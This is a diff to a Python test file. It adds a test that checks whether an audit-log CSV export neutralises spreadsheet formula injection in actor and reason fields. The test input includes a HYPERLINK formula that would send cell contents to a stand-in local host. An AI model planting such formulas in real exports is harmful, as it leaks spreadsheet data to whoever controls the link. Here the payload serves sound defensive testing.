@@ -251,3 +251,19 @@ def test_frame_bytes_are_utf8_csv_with_every_string_cell_neutralised():
 
     frame = pd.DataFrame({"a": ["=1", "é"], "b": [1, -2], "c": pd.array(["+x", None], dtype="string")})
     assert read_csv_bytes(frame_csv_bytes(frame)) == [["a", "b", "c"], ["'=1", "1", "'+x"], ["é", "-2", ""]]
+
+
+def test_the_audit_trail_download_neutralises_a_formula_in_who_or_why(fresh_db, tmp_path):
+    """The audit trail's download (app_pages/internal/audit.py: access.audit_log
+    through widgets.download_csv's frame_csv_bytes): a reason or an identity
+    that begins like a formula opens as text in a spreadsheet."""
+    from metrics.access import audit_log
+    from metrics.contract.csvsafe import frame_csv_bytes
+
+    reason = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'
+    result = import_paths(fresh_db, write_files(tmp_path / "base", BASE_FILES), actor="@SUM(1+1)", reason=reason)
+    assert result.ok, [str(p) for p in result.problems]
+    rows = list(csv.reader(io.StringIO(frame_csv_bytes(audit_log(fresh_db)).decode("utf-8"))))
+    cells = [c for r in rows[1:] for c in r]
+    assert "'" + reason in cells and "'@SUM(1+1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
